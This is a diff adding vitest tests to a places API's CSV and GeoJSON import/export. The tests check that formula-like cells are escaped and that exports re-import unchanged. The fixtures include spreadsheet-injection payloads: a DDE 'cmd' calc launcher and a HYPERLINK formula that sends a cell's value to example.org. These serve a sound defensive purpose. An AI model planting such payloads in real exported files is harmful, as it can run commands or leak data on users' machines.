@@ -1,8 +1,9 @@
+import { parse } from 'csv-parse/sync'
 import { sql } from 'kysely'
 import { expect, it } from 'vitest'
 import { countAssets } from '../../api/repositories/assets.js'
 import { countHistory } from '../../api/repositories/history.js'
-import { call, describeBackends } from '../helpers/backends.js'
+import { assetBody, call, describeBackends } from '../helpers/backends.js'
 
 const feature = (
   ref: string,
@@ -177,5 +178,102 @@ describeBackends('import and export', (ctx) => {
     const again = await post('?dryRun=true', csv.text, 'text/csv')
     expect(again.json).toMatchObject({ total: 2, unchanged: 2, created: 0, updated: 0, errors: [] })
     expect((await call(ctx().app, 'GET', '/api/export.csv?bbox=nonsense')).status).toBe(400)
+  })
+
+  /** Places made in the app (no source_ref), the way a person makes them. */
+  async function madeInTheApp(...places: Record<string, unknown>[]) {
+    for (const [i, properties] of places.entries()) {
+      const res = await call(
+        ctx().app,
+        'POST',
+        '/api/assets',
+        assetBody(properties, [5.47 + i / 100, 52.51]),
+      )
+      expect(res.status, res.text).toBe(201)
+    }
+  }
+
+  it('writes text that looks like a formula spreadsheet-safe, and the CSV import gives it back exactly', async () => {
+    const formulas = [
+      '=HYPERLINK("https://example.org/?x="&A1,"Klik")',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1+1)',
+      "'=1+1",
+      "''-x",
+    ]
+    await madeInTheApp(
+      ...formulas.map((name, i) => ({
+        name,
+        description: i === 0 ? '=1+2' : "'gewoon",
+        activities: ['@koffie', 'koken'],
+      })),
+    )
+    const csv = await call(ctx().app, 'GET', '/api/export.csv')
+    const rows = parse<Record<string, string>>(csv.text, { columns: true })
+    expect(rows.map((r) => r.name).sort()).toEqual(formulas.map((f) => `'${f}`).sort())
+    for (const row of rows) {
+      for (const [column, cell] of Object.entries(row)) {
+        expect(cell, column).not.toMatch(/^[=+\-@\t\r]/)
+      }
+      expect(row.lon).toMatch(/^\d+\.\d+$/)
+      expect(row.activities).toBe("'@koffie|koken")
+    }
+    expect(rows.find((r) => r.description === "'=1+2")).toBeDefined()
+    expect(rows.filter((r) => r.description === "'gewoon")).toHaveLength(5)
+
+    const history = await countHistory(ctx().handle.db)
+    const again = await post('', csv.text, 'text/csv')
+    expect(again.json).toMatchObject({ created: 0, updated: 0, unchanged: 6, errors: [] })
+    expect(await countHistory(ctx().handle.db)).toBe(history)
+    // A file made elsewhere with such cells: the quote goes, the text stays as it was meant.
+    await post('', "name,kind,lon,lat\n'=A1,bench,5.6,52.6\n''=B2,bench,5.61,52.6\n", 'text/csv')
+    const names = (await call(ctx().app, 'GET', '/api/assets?kind=bench')).json.features.map(
+      (f: { properties: { name: string } }) => f.properties.name,
+    )
+    expect(names.sort()).toEqual(["'=B2", '=A1'])
+  })
+
+  it('re-imports its own CSV and GeoJSON exports of places made in the app as unchanged', async () => {
+    await madeInTheApp(
+      {
+        name: 'Buurthuis De Kern',
+        contact_name: 'Anna',
+        contact_email: 'anna@example.nl',
+        target_groups: ['elderly', 'youth'],
+        activities: ['koffie', 'biljart'],
+        capacity: 40,
+        free_entry: false,
+        description: 'Regel één\nregel twee, met "aanhalingstekens"',
+      },
+      { name: 'Bankje', kind: 'bench' },
+    )
+    // Another of the same at the same spot: only their ids tell them apart.
+    const twin = assetBody({ name: 'Bankje', kind: 'bench' }, [5.48, 52.51])
+    expect((await call(ctx().app, 'POST', '/api/assets', twin)).status).toBe(201)
+    const assets = await countAssets(ctx().handle.db)
+    const history = await countHistory(ctx().handle.db)
+    const csv = await call(ctx().app, 'GET', '/api/export.csv')
+    const geojson = await call(ctx().app, 'GET', '/api/export.geojson')
+    for (const [body, type] of [
+      [csv.text, 'text/csv'],
+      [geojson.text, 'application/geo+json'],
+    ] as const) {
+      const res = await post('', body, type)
+      expect(res.status, res.text).toBe(200)
+      expect(res.json).toMatchObject({ total: 3, created: 0, updated: 0, unchanged: 3, errors: [] })
+      expect(await countAssets(ctx().handle.db)).toBe(assets)
+      expect(await countHistory(ctx().handle.db)).toBe(history)
+    }
+    // A visitor's export has no contact details: importing it keeps them, it does not clear them.
+    const pub = await call(ctx().anon, 'GET', '/api/export.csv')
+    expect(pub.text.split('\n')[0]).not.toContain('contact_name')
+    expect((await post('', pub.text, 'text/csv')).json).toMatchObject({ unchanged: 3 })
+    const kern = (await call(ctx().app, 'GET', '/api/assets?q=Kern')).json.features[0]
+    expect(kern.properties).toMatchObject({
+      contact_name: 'Anna',
+      source: 'user',
+      source_ref: null,
+    })
   })
 })
